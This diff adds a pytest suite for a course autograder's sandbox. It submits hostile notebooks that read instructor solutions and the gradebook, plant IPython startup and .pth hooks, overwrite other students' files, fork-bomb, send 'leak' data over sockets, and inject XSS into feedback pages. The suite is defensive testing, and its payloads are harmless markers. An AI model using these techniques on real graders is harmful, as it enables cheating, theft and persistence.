@@ -1,0 +1,491 @@
+"""Careless, broken and hostile submissions, graded through `make grade`'s code path (tools.grading.grade).
+
+One course holds lessons 01 and 02 and one class: honest students whose ids sort first and last (graded
+before and after everyone else), a blank copy graded after the attackers, and one submission per entry of
+BAD. The whole class is graded once, two at a time, with the sandbox on. Every attack payload is harmless
+if it got through (a comment, a print, a marker file): the tests detect that it got through instead.
+"""
+import csv
+import hashlib
+import html
+import json
+import re
+import socket
+import threading
+import time
+from html.parser import HTMLParser
+from pathlib import Path
+
+import nbformat
+import pytest
+from submissions import ROOT, cells_by_id, grading, points, solved, source_notebook, submit
+
+from tools.grading import sandbox
+
+pytestmark = pytest.mark.slow
+
+L1, L2 = "01_single_neuron", "02_dense_layer"
+TIMEOUT = 5
+MARKER = "nng-hostile-7f3a"       # found in the command line of any process a submission left behind
+FULL1 = points(L1)
+
+# (student, lesson): (what it does, how it is built, the score it deserves, what it could touch without the sandbox)
+BAD = {}
+
+
+def bad(student, lesson, deserved, does, touches="its own score"):
+    def register(build):
+        BAD[(student, lesson)] = (does, build, deserved, touches)
+        return build
+    return register
+
+
+def code(source):
+    return nbformat.v4.new_code_cell(source)
+
+
+def after(nb, grade_id, *cells):
+    """Insert cells right after the cell with `grade_id`."""
+    index = nb.cells.index(cells_by_id(nb)[grade_id]) + 1
+    nb.cells[index:index] = list(cells)
+    return nb
+
+
+def first_answer(nb):
+    return next(gid for gid, cell in cells_by_id(nb).items() if cell.metadata["nbgrader"].get("solution"))
+
+
+# ---- careless ------------------------------------------------------------------------------------------
+@bad("duplicate_grade_id", L1, FULL1, "copy-pasted answer cell: two cells with grade_id 'relu'")
+def _(release, source):
+    nb = solved(release, source)
+    copy = nbformat.from_dict(cells_by_id(nb)["relu"])
+    copy.id = "copied1"
+    copy.source += "\nprint(relu(-1.0))"
+    return after(nb, "relu", copy)
+
+
+@bad("lost_metadata", L1, FULL1, "every cell's nbgrader metadata lost (another editor), cell ids kept")
+def _(release, source):
+    nb = solved(release, source)
+    for cell in nb.cells:
+        cell.metadata.pop("nbgrader", None)
+    return nb
+
+
+@bad("slow_legit", L1, FULL1, "a 2 s cell, then a cell stuck past the timeout in code that cannot be interrupted")
+def _(release, source):
+    return after(solved(release, source), "check_sigmoid", code("import time\ntime.sleep(2)"), code(
+        "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGINT])\n"
+        f"time.sleep({3 * TIMEOUT})\nsignal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGINT])"))
+
+
+@bad("duplicate_grade_id", L2, points(L2), "copy-pasted answer cell in lesson 02")
+def _(release, source):
+    nb = solved(release, source)
+    gid = first_answer(nb)
+    copy = nbformat.from_dict(cells_by_id(nb)[gid])
+    copy.id = "copied2"
+    return after(nb, gid, copy)
+
+
+# ---- broken --------------------------------------------------------------------------------------------
+@bad("not_json", L1, 0, "the file is not JSON (a truncated download)")
+def _(release, source):
+    return nbformat.writes(solved(release, source)).encode()[:5000]
+
+
+@bad("nbformat_99", L1, 0, "notebook format version 99")
+def _(release, source):
+    nb = json.loads(nbformat.writes(solved(release, source)))
+    nb["nbformat"] = 99
+    return json.dumps(nb).encode()
+
+
+@bad("schema_99", L1, FULL1, "nbgrader metadata with schema_version 99 on every graded cell")
+def _(release, source):
+    nb = solved(release, source)
+    for cell in cells_by_id(nb).values():
+        cell.metadata.nbgrader["schema_version"] = 99
+    return nb
+
+
+@bad("points_lots", L1, FULL1, "points: \"lots\" on every test cell")
+def _(release, source):
+    nb = solved(release, source)
+    for cell in cells_by_id(nb).values():
+        if cell.metadata.nbgrader.get("grade"):
+            cell.metadata.nbgrader["points"] = "lots"
+    return nb
+
+
+@bad("grade_false", L1, FULL1 - points(L1, ["check_relu"]), "wrong relu, and its test cell set to grade: false")
+def _(release, source):
+    nb = solved(release, source)
+    cells_by_id(nb)["relu"].source = "def relu(z):\n    return np.abs(z)\n"
+    cells_by_id(nb)["check_relu"].metadata.nbgrader["grade"] = False
+    return nb
+
+
+@bad("exit_call", L1, FULL1, "exit() in a cell between the exercises", "the grading kernel (it exits)")
+def _(release, source):
+    return after(solved(release, source), "check_relu", code("exit()"))
+
+
+@bad("os_exit", L1, FULL1, "os._exit(0) in a cell between the exercises", "the grading kernel (it dies)")
+def _(release, source):
+    return after(solved(release, source), "check_sigmoid", code("import os\nos._exit(0)"))
+
+
+@bad("os_exit", L2, points(L2), "os._exit(0) after the first exercise of lesson 02", "the grading kernel")
+def _(release, source):
+    nb = solved(release, source)
+    first_test = next(gid for gid, c in cells_by_id(nb).items() if c.metadata["nbgrader"].get("grade"))
+    return after(nb, first_test, code("import os\nos._exit(0)"))
+
+
+@bad("kill_parent", L1, FULL1, "kills its parent and its process group",
+     "nbgrader's process: the whole run stopped for everyone")
+def _(release, source):
+    return after(solved(release, source), "check_relu", code(
+        "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n"
+        "os.killpg(0, signal.SIGKILL)"))
+
+
+@bad("sigint_loop", L1, FULL1 - points(L1, ["check_relu"]), "relu's cell ignores SIGINT and loops for ever",
+     "the run: 'Timeout waiting for IOPub output' stopped it for everyone")
+def _(release, source):
+    nb = solved(release, source)
+    cells_by_id(nb)["relu"].source += "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
+    return nb
+
+
+# ---- hostile -------------------------------------------------------------------------------------------
+def payload(nb, source, where="first"):
+    """Put an attack cell at the start of the exercises (or at the end)."""
+    if where == "end":
+        nb.cells.append(code(source))
+        return nb
+    return after(nb, first_answer(nb), code(source))
+
+
+SOLVE_FROM = (  # copies the instructor's answers into this kernel if it finds the instructor notebook
+    "def solve_from(path):\n    import json\n    nb = json.load(open(path))\n"
+    "    for cell in nb['cells']:\n        src = ''.join(cell['source'])\n"
+    "        if 'BEGIN SOLUTION' in src:\n            exec(src, globals())\n")
+
+
+@bad("reads_instructor", L1, 0, "reads the instructor notebook (found via nh.__file__ and the venv's path) "
+     "and runs its solutions in place of answers", "the solutions and hidden tests of every lesson")
+def _(release, source):
+    return payload(nbformat.from_dict(release), SOLVE_FROM + (
+        "import glob, sys, nnhelpers as nh\nfrom pathlib import Path\n"
+        "found = [str(r / 'notebooks' / '01_single_neuron.ipynb') for r in (Path(nh.__file__).parents[1], Path(sys.prefix).parent)]\n"
+        "for folder in Path.cwd().parents:\n    found += glob.glob(str(folder / 'source' / '*' / '01_single_neuron.ipynb'))\n"
+        "for p in found:\n    try:\n        solve_from(p)\n        print('read', p)\n    except OSError as e:\n        print(e)\n"))
+
+
+@bad("reads_gradebook", L1, 0, "looks for gradebook.db above its working directory and prints what it holds",
+     "hidden tests and every student's answers and scores")
+def _(release, source):
+    return payload(nbformat.from_dict(release), (
+        "import sqlite3\nfrom pathlib import Path\n"
+        "for folder in [Path.cwd(), *Path.cwd().parents]:\n    db = folder / 'gradebook.db'\n    if db.exists():\n"
+        "        rows = sqlite3.connect(db).execute('select source from source_cell').fetchall()\n"
+        "        print('\\n'.join(r[0] for r in rows))\n"))
+
+
+@bad("writes_nnhelpers", L1, 0, "appends a line to nnhelpers (the imported copy and the editable source tree)",
+     "the course code every later student imports (a backdoor)")
+def _(release, source):
+    return payload(nbformat.from_dict(release), (
+        "import sys, nnhelpers as nh\nfrom pathlib import Path\n"
+        "for p in [Path(nh.__file__), Path(sys.prefix).parent / 'nnhelpers' / '__init__.py']:\n"
+        f"    try:\n        open(p, 'a').write('\\n# {MARKER}\\n')\n        print('wrote', p)\n"
+        "    except OSError as e:\n        print(e)\n"))
+
+
+@bad("ipython_startup", L1, 0, "writes IPython startup files (its profile, ~/.ipython, /root/.ipython)",
+     "every later kernel of the instructor's account")
+def _(release, source):
+    return payload(nbformat.from_dict(release), (
+        "import os\nfrom pathlib import Path\n"
+        "dirs = [Path(get_ipython().profile_dir.startup_dir), Path.home() / '.ipython/profile_default/startup',\n"
+        "        Path('/root/.ipython/profile_default/startup')]\nfor d in dirs:\n    try:\n"
+        "        d.mkdir(parents=True, exist_ok=True)\n"
+        f"        (d / '99-{MARKER}.py').write_text('print(\"{MARKER}\")')\n    except OSError as e:\n        print(e)\n"))
+
+
+@bad("pth_hook", L1, 0, "writes a .pth start-up hook into the venv's and the user's site-packages",
+     "every later Python process of the venv, nbgrader included")
+def _(release, source):
+    return payload(nbformat.from_dict(release), (
+        "import site\nfrom pathlib import Path\n"
+        "for d in [*site.getsitepackages(), site.getusersitepackages()]:\n    try:\n"
+        "        Path(d).mkdir(parents=True, exist_ok=True)\n"
+        f"        (Path(d) / '{MARKER}.pth').write_text('import sys\\n')\n    except OSError as e:\n        print(e)\n"))
+
+
+@bad("overwrites_other", L1, 0, "overwrites every other submission, autograded notebook and feedback it finds",
+     "other students' work and grades")
+def _(release, source):
+    return payload(nbformat.from_dict(release), (
+        "import glob\nfrom pathlib import Path\n"
+        "for folder in Path.cwd().parents:\n"
+        "    for p in glob.glob(str(folder / '*' / '000_honest' / '*' / '*')):\n"
+        "        try:\n            Path(p).write_text('{}')\n        except OSError as e:\n            print(e)\n"))
+
+
+@bad("lingering", L1, 0, "starts a detached process that outlives the kernel and keeps rewriting grades.csv",
+     "grades.csv after export")
+def _(release, source):
+    return payload(nbformat.from_dict(release), (
+        "import subprocess, sys\n"
+        "subprocess.Popen([sys.executable, '-c', '''\nimport time\nfrom pathlib import Path\n"
+        "for _ in range(240):\n    for folder in Path.cwd().parents:\n"
+        "        try:\n            (folder / 'grades.csv').write_text('hacked')\n        except OSError:\n            pass\n"
+        f"    time.sleep(0.5)\n''', '{MARKER}'], start_new_session=True,\n"
+        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"))
+
+
+@bad("network", L1, 0, "connects to a server on the grading machine's localhost and to the internet",
+     "the network: uploads what it read")
+def _(release, source):
+    return payload(nbformat.from_dict(release), (
+        "import socket\n"
+        "for address in [('127.0.0.1', PORT), ('1.1.1.1', 80)]:\n    try:\n"
+        "        socket.create_connection(address, timeout=2).sendall(b'leak')\n        print('connected', address)\n"
+        "    except OSError as e:\n        print(e)\n"))
+
+
+@bad("big_alloc", L1, FULL1, "allocates 4 GiB in a cell between the exercises", "the machine's memory")
+def _(release, source):
+    return after(solved(release, source), "check_sigmoid", code("big = np.ones(2**29)\nprint(big.nbytes)"))
+
+
+@bad("fork_bomb", L1, 0, "forks up to 1024 processes that each wait 30 s", "every process slot of the machine")
+def _(release, source):
+    return payload(nbformat.from_dict(release), (
+        "import os, time\nparent = os.getpid()\n"
+        "for _ in range(10):\n    try:\n        os.fork()\n    except OSError:\n        break\n"
+        "if os.getpid() != parent:\n    time.sleep(30)\n    os._exit(0)\n"))
+
+
+@bad("huge_output", L1, FULL1, "prints one 200 MB line", "a 200 MB notebook and feedback page")
+def _(release, source):
+    return after(solved(release, source), "check_sigmoid", code("print('x' * 200_000_000)"))
+
+
+@bad("script_output", L1, FULL1, "<script>, onerror, javascript: links in outputs, Markdown and raw cells",
+     "the instructor's or a student's browser when opening the feedback page")
+def _(release, source):
+    evil = (f"<script>alert('{MARKER}')</script><img src=x onerror=\"alert('{MARKER}')\">"
+            f"<a href=\"javascript:alert('{MARKER}')\">x</a>")
+    nb = after(solved(release, source), "check_sigmoid", code(
+        f"from IPython.display import HTML, Javascript, Markdown, display\ndisplay(HTML({evil!r}))\n"
+        f"display(Javascript(\"alert('{MARKER}')\"))\ndisplay(Markdown(\"[x](javascript:alert('{MARKER}'))\"))"))
+    nb.cells.append(nbformat.v4.new_markdown_cell(evil + f"\n\n[y](javascript:alert('{MARKER}'))"))
+    nb.cells.append(nbformat.v4.new_raw_cell(evil))
+    return nb
+
+
+@bad("prints_history", L1, 0, "prints the kernel's input history (In) at the end, hidden tests included",
+     "the hidden tests, through its feedback page")
+def _(release, source):
+    return payload(nbformat.from_dict(release), "print('\\n'.join(In))", where="end")
+
+
+# Cheats that fake scores from inside the kernel: item 4 of issue 12 (scores decided outside the kernel)
+# closes them. Until then they score what is written here, not the 0 they deserve.
+KNOWN_GAPS = {
+    ("input_transformer", L1): ("an IPython input transformer turns every later cell, tests included, into `pass`",
+                                "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])", 0, FULL1),
+}
+
+
+def known_gap(release, source, cheat):
+    return payload(nbformat.from_dict(release), cheat)
+
+
+HONEST = [("000_honest", L1), ("zzz_honest", L1), ("000_honest", L2), ("zzz_honest", L2)]
+BLANK_AFTER = ("zzy_blank", L1)     # graded after the attackers: must still score 0
+
+
+def tree_digest(*paths):
+    digest = hashlib.sha256()
+    for path in paths:
+        for file in sorted(p for p in Path(path).rglob("*") if p.is_file() and "__pycache__" not in p.parts):
+            digest.update(str(file).encode() + file.read_bytes())
+    return digest.hexdigest()
+
+
+def lingering(marker=MARKER):
+    """Processes whose command line holds the marker."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        try:
+            if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
+                found.append(entry.name)
+        except OSError:
+            pass
+    return found
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    """Grade the whole class once; returns the course root, grades.csv and grading-report.csv rows by
+    (student, lesson), what a server on localhost received, and the submissions, grades.csv and course tree
+    as they were before (and, for grades.csv, right after) grading."""
+    if not sandbox.bwrap():
+        pytest.skip("bubblewrap (bwrap) is not installed: sudo apt-get install bubblewrap")
+    root = tmp_path_factory.mktemp("hostile")
+    grading.release(root, only=[L1, L2])
+    server = socket.create_server(("127.0.0.1", 0))
+    received = []
+    threading.Thread(target=lambda: received.append(server.accept()), daemon=True).start()
+    port = server.getsockname()[1]
+    for lesson in (L1, L2):
+        release = nbformat.read(root / "release" / lesson / f"{lesson}.ipynb", as_version=4)
+        source = source_notebook(lesson)
+        for student, lesson_ in HONEST:
+            if lesson_ == lesson:
+                submit(root, student, lesson, solved(release, source))
+        for (student, lesson_), (_, build, _, _) in BAD.items():
+            if lesson_ == lesson:
+                nb = build(release, source)
+                if not isinstance(nb, bytes):
+                    nb = nbformat.writes(nb).replace("PORT", str(port)).encode()
+                submit(root, student, lesson, nb)
+        for (student, lesson_), (_, cheat, _, _) in KNOWN_GAPS.items():
+            if lesson_ == lesson:
+                submit(root, student, lesson, known_gap(release, source, cheat))
+    submit(root, *BLANK_AFTER, nbformat.read(root / "release" / L1 / f"{L1}.ipynb", as_version=4))
+    submitted_before = {p: p.read_bytes() for p in (root / "submitted").rglob("*") if p.is_file()}
+    course_before = tree_digest(ROOT / "nnhelpers", ROOT / "notebooks", ROOT / "tools")
+    grading.grade(root, timeout=TIMEOUT)
+    grades_csv = (root / "grades.csv").read_bytes()
+    time.sleep(1.5)                      # a detached writer would have rewritten grades.csv by now
+    with open(root / "grades.csv") as f:
+        rows = {(row["student_id"], row["assignment"]): row for row in csv.DictReader(f)}
+    with open(root / "grading-report.csv") as f:
+        report = {(row["student_id"], row["assignment"]): row for row in csv.DictReader(f)}
+    server.close()
+    return {"root": root, "rows": rows, "report": report, "received": received, "grades_csv": grades_csv,
+            "submitted_before": submitted_before, "course_before": course_before}
+
+
+def score(graded, key):
+    return float(graded["rows"][key]["score"])
+
+
+@pytest.mark.parametrize("key", list(BAD), ids=[f"{s}-{lesson[:2]}" for s, lesson in BAD])
+def test_bad_submission_gets_the_score_it_deserves(graded, key):
+    does, _, deserved, _ = BAD[key]
+    assert score(graded, key) == deserved, f"{key}: {does}"
+    assert float(graded["rows"][key]["max_score"]) == points(key[1])
+
+
+def test_there_are_enough_distinct_bad_submissions():
+    assert len(BAD) >= 20 and len({lesson for _, lesson in BAD}) >= 2
+
+
+@pytest.mark.parametrize("key", HONEST + [BLANK_AFTER])
+def test_honest_students_keep_full_marks_and_the_blank_copy_scores_zero(graded, key):
+    assert score(graded, key) == (0 if key == BLANK_AFTER else points(key[1]))
+
+
+def test_known_gaps_score_as_documented(graded):
+    """In-kernel cheats are item 4's to close: when they score what they deserve, move them into BAD."""
+    for key, (does, _, deserved, today) in KNOWN_GAPS.items():
+        assert score(graded, key) == today, f"{key}: {does}: now {score(graded, key)}, deserved {deserved}"
+
+
+def test_everyone_has_a_row_in_grades_csv_and_a_feedback_page(graded):
+    everyone = set(BAD) | set(HONEST) | set(KNOWN_GAPS) | {BLANK_AFTER}
+    assert everyone <= set(graded["rows"])          # (nbgrader lists every student for every lesson)
+    for student, lesson in everyone:
+        assert (graded["root"] / "feedback" / student / lesson / f"{lesson}.html").is_file(), (student, lesson)
+
+
+def hidden_lines(lesson):
+    lines = []
+    for cell in source_notebook(lesson).cells:
+        for block in re.findall(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", cell.source, flags=re.S):
+            lines += [line.strip() for line in block.splitlines() if len(line.strip()) >= 8]
+    return lines
+
+
+def page_text(path):
+    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text()))
+
+
+def test_no_hidden_test_line_appears_in_any_feedback(graded):
+    pages = list((graded["root"] / "feedback").rglob("*.html"))
+    assert len(pages) == len(BAD) + len(HONEST) + len(KNOWN_GAPS) + 1
+    for page in pages:
+        lesson = page.stem
+        text = page_text(page)
+        leaked = [line for line in hidden_lines(lesson) if line in text]
+        assert not leaked, f"{page}: {leaked}"
+    assert "[hidden test]" in page_text(graded["root"] / "feedback" / "prints_history" / L1 / f"{L1}.html")
+
+
+class ActiveContent(HTMLParser):
+    """Collects scripts and the attributes of a page that a browser would run."""
+
+    def __init__(self):
+        super().__init__()
+        self.scripts, self.handlers, self.urls, self.in_script = [], [], [], False
+
+    def handle_starttag(self, tag, attrs):
+        self.in_script = tag == "script"
+        for name, value in attrs:
+            if name.startswith("on"):
+                self.handlers.append((tag, name, value))
+            if name in ("href", "src") and (value or "").strip().lower().startswith(("javascript:", "vbscript:")):
+                self.urls.append((tag, value))
+
+    def handle_data(self, data):
+        if self.in_script:
+            self.scripts.append(data)
+
+
+def test_feedback_has_no_script_handler_or_javascript_link_from_the_student(graded):
+    page = (graded["root"] / "feedback" / "script_output" / L1 / f"{L1}.html").read_text()
+    assert MARKER in page                                   # the student's text is there, made harmless
+    found = ActiveContent()
+    found.feed(page)
+    assert found.scripts and not [script for script in found.scripts if MARKER in script]
+    assert not found.handlers and not found.urls
+
+
+def test_outputs_are_capped_in_bytes(graded):
+    root = graded["root"]
+    for path in (root / "autograded" / "huge_output" / L1 / f"{L1}.ipynb", root / "feedback" / "huge_output" / L1 / f"{L1}.html"):
+        assert path.stat().st_size < 5 * 2**20, path
+    assert "output cut by the grader" in page_text(root / "feedback" / "huge_output" / L1 / f"{L1}.html")
+
+
+def test_report_names_what_could_not_be_graded_fully(graded):
+    report = graded["report"]
+    assert report[("not_json", L1)]["outcome"].startswith("not graded") and "not valid JSON" in report[("not_json", L1)]["details"]
+    assert "format version 99" in report[("nbformat_99", L1)]["details"]
+    assert report[("sigint_loop", L1)]["outcome"] == "partly graded"
+    assert "restarted" in report[("sigint_loop", L1)]["details"]
+    assert "restarted" in report[("os_exit", L1)]["details"]
+    assert report[("schema_99", L1)]["outcome"] == "graded after repair"
+    assert "dropped nbgrader metadata (a copy of cell 'relu')" in report[("duplicate_grade_id", L1)]["details"]
+    assert not {key for key in HONEST if key in report}
+
+
+def test_nothing_reached_the_course_other_students_or_the_network(graded):
+    root = graded["root"]
+    assert tree_digest(ROOT / "nnhelpers", ROOT / "notebooks", ROOT / "tools") == graded["course_before"]
+    assert {p: p.read_bytes() for p in (root / "submitted").rglob("*") if p.is_file()} == graded["submitted_before"]
+    assert (root / "grades.csv").read_bytes() == graded["grades_csv"]
+    assert not graded["received"], "a submission connected to the grading machine's localhost"
+    assert not lingering(), "a process a submission started outlived grading"
+    planted = [p for p in [Path("/root/.ipython/profile_default/startup") / f"99-{MARKER}.py", Path.home() / ".ipython"
+                           / "profile_default" / "startup" / f"99-{MARKER}.py"] if p.exists()]
+    planted += [p for p in Path(grading.__file__).parents[2].glob(f".venv/lib/*/site-packages/{MARKER}.pth")]
+    assert not planted
